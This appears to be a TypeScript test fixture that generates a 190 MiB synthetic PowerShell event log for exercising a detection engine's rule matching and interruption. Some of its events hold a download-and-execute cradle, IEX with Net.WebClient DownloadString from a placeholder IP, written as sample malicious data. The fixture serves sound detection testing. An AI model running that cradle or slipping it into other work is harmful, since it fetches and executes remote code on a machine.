import { writeEvtx } from '@svc/engine/testing';
import { open } from 'node:fs/promises';

const headerBytes = 4096;
const chunkBytes = 65_536;
const copies = 3000;
const suspicious = 3;
const harmless = 60;

/** What an analysis of {@link writeBigLog} finds. */
export const bigLog = { events: copies * (suspicious + harmless), matches: copies * suspicious };

/** Writes an event log of 190 MiB, whose analysis takes long enough to be interrupted. */
export async function writeBigLog(path: string): Promise<void> {
  const log = oneChunk();
  if (log.length !== headerBytes + chunkBytes) throw new Error('the events do not fit one chunk');
  const file = await open(path, 'w');
  await file.write(log.subarray(0, headerBytes));
  for (let copy = 0; copy < copies; copy++) await file.write(log.subarray(headerBytes));
  await file.close();
}

/** PowerShell script blocks, some of which the core pack has a rule for, as one chunk of a log. */
function oneChunk(): Uint8Array {
  const download = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
  const texts = [
    ...Array.from({ length: suspicious }, () => download),
    ...Array.from({ length: harmless }, () => 'Get-Date'),
  ];
  return writeEvtx(
    texts.map((text, index) => ({
      provider: 'Microsoft-Windows-PowerShell',
      providerGuid: '{a0c1853b-5c40-4b15-8766-3cf1c58f985a}',
      eventId: 4104,
      time: `2026-08-01T10:15:${String(index % 60).padStart(2, '0')}Z`,
      channel: 'Microsoft-Windows-PowerShell/Operational',
      computer: 'ws1.example.org',
      data: { ScriptBlockText: text, Path: '' },
    })),
  );
}
